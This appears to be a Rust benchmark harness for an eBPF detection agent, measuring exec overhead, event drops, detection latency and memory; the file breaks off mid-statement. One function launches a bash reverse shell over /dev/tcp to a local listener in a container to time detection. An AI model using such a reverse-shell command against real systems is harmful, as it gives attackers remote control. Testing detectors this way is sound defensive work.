//! Benchmarks of `ward agent` (issue 3), printed as a table. Run as root:
//!
//! ```text
//! cargo build --release -p ward
//! cargo run --release -p ward-bench-agent -- [--ward target/release/ward] [--rounds 31] [--execs 3000] [--pairs 200] [--kernel-only-blocks]
//! ```
//!
//! 1. **Exec cost**: fork+exec of `/bin/true`; CPU per exec = (this process + its children +
//!    the tracer) CPU time / execs, the tracer's from its threads' nanosecond run times.
//!    Measured two ways:
//!    - **interleaved blocks** (the headline figure): one `ward agent`; blocks of M execs
//!      alternate between *on* (the agent running, its programs working) and *off* (the agent
//!      SIGSTOPped and its programs paused through the `ward_pause` map, so they return at
//!      once: attached, they cost nothing measurable), in ABBA order. Per pair: (workload +
//!      agent CPU, on) / (workload CPU, off); the median over pairs and the mean with its 95%
//!      interval. Blocks a fraction of a second apart pair far more tightly than whole runs;
//!      `--kernel-only-blocks` adds the same with the agent kept stopped (BPF cost alone);
//!    - **interleaved rounds**: N execs per round with no tracer, `ward agent` (a new one per
//!      round), a stopped agent, bpftrace's `execsnoop.bt` (Debian's bpftrace) as a reference,
//!      or another build/setting (`alt`); medians over rounds, and the median of per-round
//!      ratios against the baseline interpolated between the baseline runs before and after.
//!      A round varies by several percent on these VMs, so this is the coarser figure.
//! 2. **Drops at the highest exec rate**: one `/bin/true` loop per CPU for a few seconds under
//!    the agent; kernel drops and exec events from its metrics.
//! 3. **Exec → finding latency**: a compiler run repeatedly in a container (podman, image
//!    `localhost/ward-test-debian`), with the aggregation window set to 1 ns so every run is a
//!    new finding; p50/p99/max from the agent's own measure (kernel exec timestamp → finding
//!    flushed to the JSON Lines file).
//!    The same for reverse shells (`bash -i >& /dev/tcp/...` answering `id` to a listener on
//!    127.0.0.1), which the kernel flags for an immediate wake-up instead of the poll timer.
//! 4. **Agent RSS** at steady state and its peak (VmHWM).

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};
use ward_testkit::agent::{status_kb, AgentOptions, WardAgent};

fn usage() -> ! {
    eprintln!(
        "usage: ward-bench-agent [--ward PATH] [--alt PATH] [--toml TOML] [--alt-toml TOML] [--pin CPU] [--rounds N] [--execs N] [--flood-secs S] [--findings N] [--no-bpftrace] [--no-containers] [--cost-only] [--pairs N] [--block-execs M] [--kernel-only-blocks] [--settle-ms MS] [--modes none,ward,ward-stopped,bpftrace,alt,alt-stopped] (alt: the --alt binary with --alt-toml, to compare two builds or settings in one run; ward=P1+P2 / ward-stopped=P1+P2: attach only those sensor programs; =noop: every program attached but paused, returning at once)"
    );
    std::process::exit(2)
}

struct Opts {
    ward: PathBuf,
    /// A second `ward` binary (modes `alt`, `alt-stopped`); defaults to `ward`.
    alt: Option<PathBuf>,
    /// Extra agent configuration (TOML) for the `ward` modes and for the `alt` modes.
    toml: String,
    alt_toml: String,
    /// Run the exec loop (and so its children) on this CPU only; tracers stay unpinned.
    pin: Option<usize>,
    rounds: usize,
    execs: usize,
    flood_secs: u64,
    findings: usize,
    bpftrace: bool,
    containers: bool,
    /// Only the exec-cost comparisons (part 1).
    cost_only: bool,
    /// Interleaved blocks (part 1a): on/off pairs, execs per block (0 pairs: skip).
    pairs: usize,
    block_execs: usize,
    /// Wait after a tracer is ready before its round.
    settle: Duration,
    /// Part 1a also with the agent kept stopped in the on blocks (BPF cost alone).
    kernel_only_blocks: bool,
    /// Exec-cost modes, by short name.
    modes: Vec<String>,
}

fn parse() -> Opts {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let mut o = Opts {
        ward: root.join("target/release/ward"),
        alt: None,
        toml: String::new(),
        alt_toml: String::new(),
        pin: None,
        rounds: 31,
        execs: 3000,
        flood_secs: 5,
        findings: 300,
        bpftrace: true,
        containers: true,
        cost_only: false,
        pairs: 200,
        block_execs: 300,
        kernel_only_blocks: false,
        settle: Duration::from_secs(2),
        modes: ["none", "ward", "bpftrace"].map(String::from).to_vec(),
    };
    let mut args = std::env::args().skip(1);
    while let Some(a) = args.next() {
        let mut val = || args.next().unwrap_or_else(|| usage());
        match a.as_str() {
            "--ward" => o.ward = PathBuf::from(val()),
            "--alt" => o.alt = Some(PathBuf::from(val())),
            "--toml" => o.toml = val(),
            "--alt-toml" => o.alt_toml = val(),
            "--pin" => o.pin = Some(val().parse().unwrap_or_else(|_| usage())),
            "--rounds" => o.rounds = val().parse().unwrap_or_else(|_| usage()),
            "--execs" => o.execs = val().parse().unwrap_or_else(|_| usage()),
            "--flood-secs" => o.flood_secs = val().parse().unwrap_or_else(|_| usage()),
            "--findings" => o.findings = val().parse().unwrap_or_else(|_| usage()),
            "--no-bpftrace" => o.bpftrace = false,
            "--no-containers" => o.containers = false,
            "--cost-only" => o.cost_only = true,
            "--pairs" => o.pairs = val().parse().unwrap_or_else(|_| usage()),
            "--block-execs" => o.block_execs = val().parse().unwrap_or_else(|_| usage()),
            "--kernel-only-blocks" => o.kernel_only_blocks = true,
            "--settle-ms" => {
                o.settle = Duration::from_millis(val().parse().unwrap_or_else(|_| usage()))
            }
            "--modes" => o.modes = val().split(',').map(String::from).collect(),
            _ => usage(),
        }
    }
    o
}

/// CPU time of a process, seconds: the nanosecond run times of its threads
/// (`/proc/PID/task/*/schedstat`). utime + stime in `/proc/PID/stat` count in clock ticks
/// (10 ms), as much as the whole difference being measured in a round; a thread that exits
/// takes its time along, which is why every tracer measured here keeps its threads.
fn proc_cpu(pid: u32) -> f64 {
    let Ok(tasks) = std::fs::read_dir(format!("/proc/{pid}/task")) else {
        return 0.0;
    };
    let mut ns = 0u64;
    for t in tasks.flatten() {
        if let Ok(s) = std::fs::read_to_string(t.path().join("schedstat")) {
            ns += s
                .split_whitespace()
                .next()
                .and_then(|v| v.parse::<u64>().ok())
                .unwrap_or(0);
        }
    }
    ns as f64 / 1e9
}

/// CPU seconds of this process plus its waited-for children.
fn self_and_children_cpu() -> f64 {
    let mut total = 0.0;
    for who in [libc::RUSAGE_SELF, libc::RUSAGE_CHILDREN] {
        // SAFETY: getrusage fills the struct we pass.
        let mut ru: libc::rusage = unsafe { std::mem::zeroed() };
        unsafe { libc::getrusage(who, &mut ru) };
        let tv = |t: libc::timeval| t.tv_sec as f64 + t.tv_usec as f64 / 1e6;
        total += tv(ru.ru_utime) + tv(ru.ru_stime);
    }
    total
}

/// `ward agent` with its defaults plus `extra_toml` (sections, or `[agent]` keys alone), not tied
/// to this process: the bench stops it itself; a stopped agent must stay stopped, not die with a
/// thread.
struct Agent(WardAgent);

impl Agent {
    fn start(ward: &Path, extra_toml: &str) -> Agent {
        Self::start_attaching(ward, extra_toml, None)
    }

    /// With `attach`, only those sensor programs are attached (`WARD_SENSOR_ATTACH`).
    fn start_attaching(ward: &Path, extra_toml: &str, attach: Option<&str>) -> Agent {
        let opts = AgentOptions {
            toml: extra_toml.to_string(),
            // `key = value` lines without a section are [agent] keys.
            agent_keys: !extra_toml.trim_start().starts_with('['),
            tied: false,
            // "noop": every program attached, paused by `ward_pause` (returning at once).
            env: match attach {
                Some("noop") => vec![("WARD_SENSOR_NOOP".to_string(), "1".to_string())],
                Some(a) => vec![("WARD_SENSOR_ATTACH".to_string(), a.to_string())],
                None => Vec::new(),
            },
            ..AgentOptions::default()
        };
        Agent(WardAgent::start(ward, &opts).unwrap_or_else(|e| panic!("{e}")))
    }

    fn pid(&self) -> u32 {
        self.0.pid()
    }

    fn metric(&self, name: &str) -> f64 {
        self.0.metric(name)
    }

    fn stop(self) {
        let _ = self.0.stop();
    }
}

/// A running tracer to measure against.
enum Tracer {
    None,
    Ward(Agent),
    /// The agent with its process stopped (SIGSTOP): the BPF programs run and fill the ring
    /// buffer, nothing in user space reads it. Isolates the kernel-side cost.
    WardStopped(Agent),
    /// The tracer and the file its output goes to (kept until it stops).
    Bpftrace(Child, Option<tempfile::NamedTempFile>),
}

impl Tracer {
    fn pid(&self) -> Option<u32> {
        match self {
            Tracer::None => None,
            Tracer::Ward(a) | Tracer::WardStopped(a) => Some(a.pid()),
            Tracer::Bpftrace(c, _) => Some(c.id()),
        }
    }

    fn stop(self) {
        match self {
            Tracer::None => {}
            Tracer::Ward(a) => a.stop(),
            Tracer::WardStopped(a) => {
                signal(a.pid(), libc::SIGCONT);
                a.stop()
            }
            Tracer::Bpftrace(mut c, out) => {
                signal(c.id(), libc::SIGINT);
                let _ = c.wait();
                drop(out);
            }
        }
    }
}

/// Sends `sig` to our child `pid`.
fn signal(pid: u32, sig: libc::c_int) {
    // SAFETY: kill(2) has no memory-safety preconditions.
    unsafe { libc::kill(pid as libc::pid_t, sig) };
}

fn start_bpftrace() -> Tracer {
    let out = tempfile::NamedTempFile::new().unwrap();
    let child = Command::new("bpftrace")
        .arg("/usr/sbin/execsnoop.bt")
        .stdin(Stdio::null())
        .stdout(out.reopen().unwrap())
        .stderr(Stdio::null())
        .spawn()
        .expect("bpftrace");
    let deadline = Instant::now() + Duration::from_secs(30);
    while !std::fs::read_to_string(out.path())
        .unwrap_or_default()
        .contains("TIME(ms)")
    {
        assert!(Instant::now() < deadline, "bpftrace did not start");
        std::thread::sleep(Duration::from_millis(20));
    }
    Tracer::Bpftrace(child, Some(out))
}

/// N fork+execs of /bin/true, on CPU `pin` only if given; returns (wall seconds, CPU seconds
/// of this process + its children).
fn true_execs(n: usize, pin: Option<usize>) -> (f64, f64) {
    if let Some(cpu) = pin {
        set_affinity(&[cpu]);
    }
    let c0 = self_and_children_cpu();
    let w0 = Instant::now();
    for _ in 0..n {
        let st = Command::new("/bin/true").status().expect("/bin/true");
        assert!(st.success());
    }
    let r = (w0.elapsed().as_secs_f64(), self_and_children_cpu() - c0);
    if pin.is_some() {
        let all: Vec<usize> =
            (0..std::thread::available_parallelism().map_or(1, |n| n.get())).collect();
        set_affinity(&all);
    }
    r
}

/// A round of N fork+execs of /bin/true; returns (wall seconds, CPU seconds of this process +
/// children, CPU seconds of the tracer).
fn exec_round(n: usize, tracer: Option<u32>, pin: Option<usize>) -> (f64, f64, f64) {
    std::thread::sleep(Duration::from_millis(300));
    let t0 = tracer.map(proc_cpu).unwrap_or(0.0);
    let (wall, work) = true_execs(n, pin);
    // Let the tracer catch up with the last events before sampling its CPU.
    std::thread::sleep(Duration::from_millis(100));
    let traced = tracer.map(proc_cpu).unwrap_or(0.0) - t0;
    (wall, work, traced)
}

/// `n` reverse shells (`bash -i` over `/dev/tcp`) in `container` against a listener on
/// 127.0.0.1 that sends `id` and `exit`, under a fresh agent. Returns (shells, findings, p50 s,
/// p99 s, findings within 100 ms, latencies counted).
fn reverse_shell_latency(
    ward: &Path,
    container: &str,
    n: usize,
) -> (usize, f64, f64, f64, f64, f64) {
    use std::io::{Read, Write};
    let agent = Agent::start(ward, "[engine]\naggregation_window = \"1ns\"\n");
    std::thread::sleep(Duration::from_millis(500));
    for _ in 0..n {
        let l = std::net::TcpListener::bind("127.0.0.1:0").expect("listener on 127.0.0.1");
        l.set_nonblocking(true).expect("nonblocking listener");
        let port = l.local_addr().expect("listener address").port();
        let st = Command::new("podman")
            .args(["exec", "-d", container, "bash", "-c"])
            .arg(format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"))
            .stdout(Stdio::null())
            .status()
            .expect("podman exec");
        assert!(st.success(), "podman exec failed");
        let deadline = Instant::now() + Duration::from_secs(10);
        let mut conn = loop {
            match l.accept() {
                Ok((c, _)) => break c,
                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                    assert!(
                        Instant::now() < deadline,
                        "the reverse shell did not connect"
                    );
                    std::thread::sleep(Duration::from_millis(5));
                }
                Err(e) => panic!("accept: {e}"),
            }
        };
        conn.set_nonblocking(false).expect("blocking connection");
        conn.set_read_timeout(Some(Duration::from_secs(5)))
            .expect("read timeout");
        conn.write_all(b"id\nexit\n").expect("sending id");
        let mut out = Vec::new();
        let _ = conn.read_to_end(&mut out);
        assert!(
            String::from_utf8_lossy(&out).contains("uid=0(root)"),
            "the reverse shell ran id: {:?}",
            String::from_utf8_lossy(&out)
        );
    }
    std::thread::sleep(Duration::from_secs(1));
    let r = (
        n,
        agent.metric("ward_findings_total"),
        agent.metric("ward_detection_latency_recent_seconds{quantile=\"0.5\"}"),
        agent.metric("ward_detection_latency_recent_seconds{quantile=\"0.99\"}"),
        agent.metric("ward_detection_latency_seconds_bucket{le=\"0.1\"}"),
        agent.metric("ward_detection_latency_seconds_count"),
    );
    agent.stop();
    r
}

/// The `ward_pause` switch of the (one) running agent's BPF programs.
fn pause_switch() -> aya::maps::Array<aya::maps::MapData, u32> {
    for info in aya::maps::loaded_maps().flatten() {
        if info.name_as_str() == Some("ward_pause") {
            let data = aya::maps::MapData::from_id(info.id()).expect("opening ward_pause");
            return aya::maps::Array::try_from(aya::maps::Map::Array(data))
                .expect("ward_pause is an array");
        }
    }
    panic!("no loaded BPF map named ward_pause: is the agent running?");
}

/// Part 1a: interleaved on/off blocks in one agent's lifetime. Returns per-pair added CPU (%)
/// and the medians of (workload on, agent on, workload off) in us per exec.
fn interleaved(o: &Opts, kernel_only: bool) -> (Vec<f64>, f64, f64, f64) {
    let agent = Agent::start(&o.ward, &o.toml);
    let pid = agent.pid();
    let mut pause = pause_switch();
    std::thread::sleep(Duration::from_millis(500));
    let n = o.block_execs;
    let mut run = |on: bool| -> (f64, f64) {
        pause.set(0, u32::from(!on), 0).expect("setting ward_pause");
        let agent_runs = on && !kernel_only;
        signal(
            pid,
            if agent_runs {
                libc::SIGCONT
            } else {
                libc::SIGSTOP
            },
        );
        std::thread::sleep(Duration::from_millis(50));
        let a0 = proc_cpu(pid);
        let (_, work) = true_execs(n, o.pin);
        // Give the agent a moment with the block's events. What it has not read when it is
        // stopped for an off block (it polls every poll_interval) it reads, and is counted
        // for, in a later on block.
        std::thread::sleep(Duration::from_millis(if agent_runs { 40 } else { 0 }));
        let traced = if agent_runs { proc_cpu(pid) - a0 } else { 0.0 };
        (work / n as f64 * 1e6, traced / n as f64 * 1e6)
    };
    let (mut added, mut won, mut aon, mut woff) = (Vec::new(), Vec::new(), Vec::new(), Vec::new());
    for p in 0..o.pairs {
        // ABBA: the order alternates, so a trend within a pair cancels over pairs.
        let (on, off) = if p % 2 == 0 {
            let on = run(true);
            (on, run(false))
        } else {
            let off = run(false);
            (run(true), off)
        };
        if kernel_only {
            // Let the stopped agent drain the ring between pairs (not measured).
            signal(pid, libc::SIGCONT);
            std::thread::sleep(Duration::from_millis(100));
        }
        added.push(((on.0 + on.1) / off.0 - 1.0) * 100.0);
        won.push(on.0);
        aon.push(on.1);
        woff.push(off.0);
    }
    pause.set(0, 0, 0).expect("setting ward_pause");
    signal(pid, libc::SIGCONT);
    agent.stop();
    (added, median(&mut won), median(&mut aon), median(&mut woff))
}

/// Restricts this thread (and the children it starts from now on) to `cpus`.
fn set_affinity(cpus: &[usize]) {
    // SAFETY: cpu_set_t is plain data; sched_setaffinity reads the set we pass.
    unsafe {
        let mut set: libc::cpu_set_t = std::mem::zeroed();
        for &c in cpus {
            libc::CPU_SET(c, &mut set);
        }
        if libc::sched_setaffinity(0, std::mem::size_of::<libc::cpu_set_t>(), &set) != 0 {
            panic!("sched_setaffinity: {}", std::io::Error::last_os_error());
        }
    }
}

/// (id, name, run count, run time ns) of every loaded BPF program named `ward_*`.
fn ward_programs() -> Vec<(u32, String, u64, u64)> {
    let Ok(out) = Command::new("bpftool").args(["prog", "show"]).output() else {
        return Vec::new();
    };
    // "<id>: <type>  name <name>  tag <tag>  gpl run_time_ns <N> run_cnt <M>"
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter(|l| !l.starts_with(char::is_whitespace))
        .filter_map(|line| {
            let w: Vec<&str> = line.split_whitespace().collect();
            let get = |k: &str| {
                w.iter()
                    .position(|x| *x == k)
                    .and_then(|i| w.get(i + 1))
                    .copied()
            };
            let name = get("name")?;
            if !name.starts_with("ward_") {
                return None;
            }
            Some((
                w.first()?.trim_end_matches(':').parse().ok()?,
                name.to_string(),
                get("run_cnt").and_then(|v| v.parse().ok()).unwrap_or(0),
                get("run_time_ns").and_then(|v| v.parse().ok()).unwrap_or(0),
            ))
        })
        .collect()
}

fn bpf_cost(o: &Opts) {
    let have = Command::new("bpftool")
        .arg("version")
        .stdout(Stdio::null())
        .status()
        .is_ok_and(|s| s.success());
    if !have {
        println!("\n(kernel-side cost skipped: bpftool missing)");
        return;
    }
    let sysctl = "/proc/sys/kernel/bpf_stats_enabled";
    let before = std::fs::read_to_string(sysctl).unwrap_or_default();
    let _ = std::fs::write(sysctl, "1");
    // Other sensors may be loaded (other agents, tests): ours are the programs that appear.
    let others: Vec<u32> = ward_programs().into_iter().map(|p| p.0).collect();
    let agent = Agent::start(&o.ward, "");
    std::thread::sleep(Duration::from_millis(300));
    let ours = || -> Vec<(u32, String, u64, u64)> {
        ward_programs()
            .into_iter()
            .filter(|p| !others.contains(&p.0))
            .collect()
    };
    let p0 = ours();
    for _ in 0..o.execs {
        let _ = Command::new("/bin/true").status();
    }
    std::thread::sleep(Duration::from_millis(200));
    let p1 = ours();
    agent.stop();
    let _ = std::fs::write(sysctl, before.trim());
    println!("\n## kernel-side cost of the agent's BPF programs ({} execs of /bin/true, kernel.bpf_stats_enabled)", o.execs);
    println!("| program | runs | ns per run |");
    println!("|---|---|---|");
    let mut total = 0u64;
    for (id, name, cnt, ns) in &p1 {
        let (c0, n0) = p0
            .iter()
            .find(|p| p.0 == *id)
            .map(|p| (p.2, p.3))
            .unwrap_or((0, 0));
        let (dc, dn) = (cnt - c0, ns - n0);
        total += dn;
        if dc > 0 {
            println!("| {name} | {dc} | {} |", dn / dc.max(1));
        }
    }
    println!(
        "| **all, per /bin/true fork+exec+exit** | | **{:.2} us** |",
        total as f64 / o.execs as f64 / 1e3
    );
}

fn median(v: &mut [f64]) -> f64 {
    v.sort_by(|a, b| a.total_cmp(b));
    if v.is_empty() {
        return f64::NAN;
    }
    v[v.len() / 2]
}

fn main() {
    let o = parse();
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } != 0 {
        eprintln!("ward-bench-agent: needs root (it loads eBPF programs)");
        std::process::exit(1);
    }
    if !o.ward.exists() {
        eprintln!(
            "ward-bench-agent: {} not found; run `cargo build --release -p ward` first or pass --ward",
            o.ward.display()
        );
        std::process::exit(1);
    }
    let have_bpftrace = o.bpftrace
        && Path::new("/usr/sbin/execsnoop.bt").exists()
        && Command::new("bpftrace")
            .arg("--version")
            .stdout(Stdio::null())
            .status()
            .is_ok_and(|s| s.success());
    let cpus = std::thread::available_parallelism().map_or(1, |n| n.get());
    println!(
        "ward-bench-agent: {} ({} CPUs), {} rounds x {} execs of /bin/true",
        o.ward.display(),
        cpus,
        o.rounds,
        o.execs
    );
    if let Some(alt) = &o.alt {
        println!("alt: {}", alt.display());
    }
    if let Some(cpu) = o.pin {
        println!("exec loop pinned to CPU {cpu} (tracers unpinned)");
    }
    for (what, t) in [("ward", &o.toml), ("alt", &o.alt_toml)] {
        if !t.is_empty() {
            println!("{what} config: {}", t.replace('\n', "; "));
        }
    }

    // 1a. Exec cost, interleaved blocks.
    if o.pairs > 0 {
        println!(
            "\n## exec cost, interleaved blocks ({} on/off pairs x {} execs, one agent)",
            o.pairs, o.block_execs
        );
        println!("On: the agent running, its BPF programs working. Off: the agent stopped (SIGSTOP) and its programs paused (ward_pause: they return at once). Added per pair = (workload + agent CPU, on) / (workload CPU, off) - 1. Kernel side only: the agent stays stopped in the on blocks too (it drains the ring between pairs, unmeasured).");
        println!("| measured | added CPU per exec: median over pairs | mean (95% CI) | pairs higher | workload on | agent on | workload off |");
        println!("|---|---|---|---|---|---|---|");
        let kinds: &[bool] = if o.kernel_only_blocks {
            &[false, true]
        } else {
            &[false]
        };
        for &kernel_only in kinds {
            let (mut added, won, aon, woff) = interleaved(&o, kernel_only);
            let higher = added.iter().filter(|d| **d > 0.0).count();
            let mean = added.iter().sum::<f64>() / added.len() as f64;
            let sd = (added.iter().map(|d| (d - mean).powi(2)).sum::<f64>()
                / (added.len().max(2) - 1) as f64)
                .sqrt();
            let pm = median(&mut added);
            println!(
                "| {} | **{pm:+.2}%** | {mean:+.2}% (+-{:.2}%) | {higher}/{} | {won:.1} us | {aon:.2} us | {woff:.1} us |",
                if kernel_only { "kernel side only (BPF programs)" } else { "`ward agent` (BPF + user space)" },
                1.96 * sd / (added.len() as f64).sqrt(),
                added.len()
            );
        }
    }

    if o.rounds > 0 {
        // 1. Exec cost, interleaved rounds.
        // (label, kind, programs to attach): "ward-stopped=ward_exec,ward_fork" attaches only those.
        let modes: Vec<(String, &str, Option<String>)> = o
            .modes
            .iter()
            .filter_map(|m| {
                let (name, attach) = match m.split_once('=') {
                    Some((n, a)) => (n, Some(a.replace('+', ","))),
                    None => (m.as_str(), None),
                };
                let label = |base: &str| match &attach {
                    Some(a) => format!("{base} [{a}]"),
                    None => base.to_string(),
                };
                match name {
                    "none" => Some(("none".to_string(), "none", None)),
                    "ward" => Some((label("ward agent"), "ward", attach)),
                    "ward-stopped" => Some((label("ward agent, stopped"), "ward-stopped", attach)),
                    "alt" => Some((label("alt agent"), "alt", attach)),
                    "alt-stopped" => Some((label("alt agent, stopped"), "alt-stopped", attach)),
                    "bpftrace" if have_bpftrace => {
                        Some(("bpftrace execsnoop.bt".to_string(), "bpftrace", None))
                    }
                    "bpftrace" => None,
                    _ => usage(),
                }
            })
            .collect();
        if modes.first().map(|m| m.1) != Some("none") {
            eprintln!("ward-bench-agent: --modes must start with none (the baseline)");
            std::process::exit(2);
        }
        let mut cpu: Vec<Vec<f64>> = vec![Vec::new(); modes.len()];
        let mut work_cpu: Vec<Vec<f64>> = vec![Vec::new(); modes.len()];
        let mut tracer_cpu: Vec<Vec<f64>> = vec![Vec::new(); modes.len()];
        let mut wall: Vec<Vec<f64>> = vec![Vec::new(); modes.len()];
        // When each run happened (seconds since the first), to interpolate the baseline.
        let mut at: Vec<Vec<f64>> = vec![Vec::new(); modes.len()];
        let t_start = Instant::now();
        for round in 0..o.rounds {
            for (i, (m, kind, attach)) in modes.iter().enumerate() {
                // The `alt` modes run the --alt binary with --alt-toml.
                let (bin, toml) = if kind.starts_with("alt") {
                    (o.alt.as_deref().unwrap_or(&o.ward), &o.alt_toml)
                } else {
                    (o.ward.as_path(), &o.toml)
                };
                let tracer = match *kind {
                    "none" => Tracer::None,
                    "ward" | "alt" => {
                        Tracer::Ward(Agent::start_attaching(bin, toml, attach.as_deref()))
                    }
                    "ward-stopped" | "alt-stopped" => {
                        let a = Agent::start_attaching(bin, toml, attach.as_deref());
                        std::thread::sleep(Duration::from_millis(300));
                        signal(a.pid(), libc::SIGSTOP);
                        Tracer::WardStopped(a)
                    }
                    _ => start_bpftrace(),
                };
                if !matches!(tracer, Tracer::None) {
                    // A tracer's start-up (the agent parses the kernel's BTF, reads /proc, loads
                    // its model and gives that memory back) disturbs the machine for a while after
                    // it says it is ready; measure the steady state.
                    std::thread::sleep(o.settle);
                }
                let t_run = t_start.elapsed().as_secs_f64();
                let (w, work, traced) = exec_round(o.execs, tracer.pid(), o.pin);
                at[i].push(t_run + w / 2.0);
                let c = work + traced;
                work_cpu[i].push(work / o.execs as f64 * 1e6);
                tracer_cpu[i].push(traced / o.execs as f64 * 1e6);
                tracer.stop();
                cpu[i].push(c / o.execs as f64 * 1e6);
                wall[i].push(w / o.execs as f64 * 1e6);
                eprintln!(
                "  round {} {:<22} {:>7.1} us CPU/exec ({:.1} workload + {:.1} tracer) {:>7.1} us wall/exec",
                round + 1,
                m,
                c / o.execs as f64 * 1e6,
                work / o.execs as f64 * 1e6,
                traced / o.execs as f64 * 1e6,
                w / o.execs as f64 * 1e6
            );
            }
        }
        // One more baseline run closes the last round, so that every tracer run sits between two.
        let t_run = t_start.elapsed().as_secs_f64();
        let (w_end, work_end, _) = exec_round(o.execs, None, o.pin);
        let base_end = (t_run + w_end / 2.0, work_end / o.execs as f64 * 1e6);
        // The baseline at time t of round r: linear between that round's baseline run and the next.
        let (base_at, base_cpu) = (at[0].clone(), cpu[0].clone());
        let baseline = |r: usize, t: f64| {
            let (t0, b0) = (base_at[r], base_cpu[r]);
            let (t1, b1) = if r + 1 < base_cpu.len() {
                (base_at[r + 1], base_cpu[r + 1])
            } else {
                base_end
            };
            if t1 > t0 {
                b0 + (b1 - b0) * ((t - t0) / (t1 - t0)).clamp(0.0, 1.0)
            } else {
                b0
            }
        };
        println!("\n## exec cost (medians of {} rounds)", o.rounds);
        println!("Paired: per round, CPU per exec against the no-tracer baseline at that moment (linear between the baseline runs just before and just after it, so that machine drift cancels); the median of those ratios, and in how many rounds the tracer cost more.");
        println!("| tracer | CPU per exec (workload + tracer) | added (medians) | added (paired median) | rounds higher | workload alone | tracer alone | wall per exec | added |");
        println!("|---|---|---|---|---|---|---|---|---|");
        let base_c = median(&mut cpu[0].clone());
        let base_w = median(&mut wall[0].clone());
        for (i, (m, _, _)) in modes.iter().enumerate() {
            let mut paired: Vec<f64> = cpu[i]
                .iter()
                .enumerate()
                .map(|(r, c)| (c / baseline(r, at[i][r]) - 1.0) * 100.0)
                .collect();
            let higher = paired.iter().filter(|d| **d > 0.0).count();
            let pm = median(&mut paired);
            let c = median(&mut cpu[i]);
            let w = median(&mut wall[i]);
            let wk = median(&mut work_cpu[i]);
            let tr = median(&mut tracer_cpu[i]);
            println!(
            "| {m} | {c:.1} us | {:+.1}% | {pm:+.1}% | {higher}/{} | {wk:.1} us | {tr:.1} us | {w:.1} us | {:+.1}% |",
            (c - base_c) / base_c * 100.0,
            o.rounds,
            (w - base_w) / base_w * 100.0
        );
        }
    }

    if o.cost_only {
        return;
    }

    // 1b. Kernel-side cost: run time of the agent's own BPF programs (kernel.bpf_stats_enabled).
    bpf_cost(&o);

    // 2. Drops at the highest exec rate this machine reaches.
    let agent = Agent::start(&o.ward, "");
    std::thread::sleep(Duration::from_millis(300));
    let execs0 = agent.metric("ward_sensor_events_total{kind=\"exec\"}");
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let start = Instant::now();
    let workers: Vec<_> = (0..cpus)
        .map(|_| {
            let stop = stop.clone();
            std::thread::spawn(move || {
                let mut n = 0u64;
                while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                    let _ = Command::new("/bin/true").status();
                    n += 1;
                }
                n
            })
        })
        .collect();
    std::thread::sleep(Duration::from_secs(o.flood_secs));
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    let ran: u64 = workers.into_iter().map(|w| w.join().unwrap()).sum();
    let secs = start.elapsed().as_secs_f64();
    std::thread::sleep(Duration::from_millis(1500));
    let seen = agent.metric("ward_sensor_events_total{kind=\"exec\"}") - execs0;
    let drops = agent.metric("ward_kernel_drops_total");
    let udrops = agent.metric("ward_userspace_drops_total");
    let rss_flood = status_kb(agent.pid(), "VmRSS:");
    let hwm_flood = status_kb(agent.pid(), "VmHWM:");
    agent.stop();
    println!("\n## drops at the highest exec rate ({cpus} parallel /bin/true loops, {secs:.1} s)");
    println!("| execs run | exec rate | exec events seen by the agent | kernel drops | user-space drops |");
    println!("|---|---|---|---|---|");
    println!(
        "| {ran} | {:.0}/s | {seen:.0} (includes other execs on the host) | {drops:.0} | {udrops:.0} |",
        ran as f64 / secs
    );

    // 3 + 4. Exec -> finding latency, RSS.
    if !o.containers {
        println!("\n(latency benchmark skipped: --no-containers)");
        println!(
            "\n## agent memory\n| VmRSS after the flood | VmHWM |\n|---|---|\n| {} MiB | {} MiB |",
            rss_flood / 1024,
            hwm_flood / 1024
        );
        return;
    }
    let image = "localhost/ward-test-debian:latest";
    let have_image = Command::new("podman")
        .args(["image", "exists", image])
        .status()
        .is_ok_and(|s| s.success());
    if !have_image {
        println!("\n(latency benchmark skipped: {image} missing; run scripts/containers/build-images.sh)");
        return;
    }
    let agent = Agent::start(&o.ward, "[engine]\naggregation_window = \"1ns\"\n");
    let name = format!("ward-bench-{}", std::process::id());
    let run = Command::new("podman")
        .args([
            "run",
            "-d",
            "--rm",
            "--network",
            "host",
            "--name",
            &name,
            image,
            "sleep",
            "600",
        ])
        .stdout(Stdio::null())
        .status()
        .expect("podman run");
    assert!(run.success(), "podman run failed");
    let script = format!(
        "for i in $(seq {}); do tcc -v >/dev/null 2>&1; sleep 0.02; done",
        o.findings
    );
    let t = Instant::now();
    let st = Command::new("podman")
        .args(["exec", &name, "sh", "-c", &script])
        .status()
        .expect("podman exec");
    assert!(st.success());
    let loop_secs = t.elapsed().as_secs_f64();
    std::thread::sleep(Duration::from_secs(1));
    let n = agent.metric("ward_findings_total");
    let p50 = agent.metric("ward_detection_latency_recent_seconds{quantile=\"0.5\"}");
    let p99 = agent.metric("ward_detection_latency_recent_seconds{quantile=\"0.99\"}");
    let under_100 = agent.metric("ward_detection_latency_seconds_bucket{le=\"0.1\"}");
    let count = agent.metric("ward_detection_latency_seconds_count");
    let rss = status_kb(agent.pid(), "VmRSS:");
    let hwm = status_kb(agent.pid(), "VmHWM:");
    agent.stop();
    let shells = reverse_shell_latency(&o.ward, &name, 30);
    let _ = Command::new("podman")
        .args(["rm", "-f", "-t", "0", &name])
        .stdout(Stdio::null())
        .status();
    println!(
        "\n## exec -> finding written ({} compiler runs in a container in {loop_secs:.1} s, aggregation window 1 ns)",
        o.findings
    );
    println!("| findings | p50 | p99 | <= 100 ms |");
    println!("|---|---|---|---|");
    println!(
        "| {n:.0} | {:.1} ms | {:.1} ms | {:.0}/{:.0} |",
        p50 * 1e3,
        p99 * 1e3,
        under_100,
        count
    );
    println!(
        "\n## exec -> finding written, reverse shells ({} `bash -i >& /dev/tcp/127.0.0.1/PORT` in the container, each answering `id`; a socket on stdio wakes the agent at once)",
        shells.0
    );
    println!("| findings | p50 | p99 | <= 100 ms |");
    println!("|---|---|---|---|");
    println!(
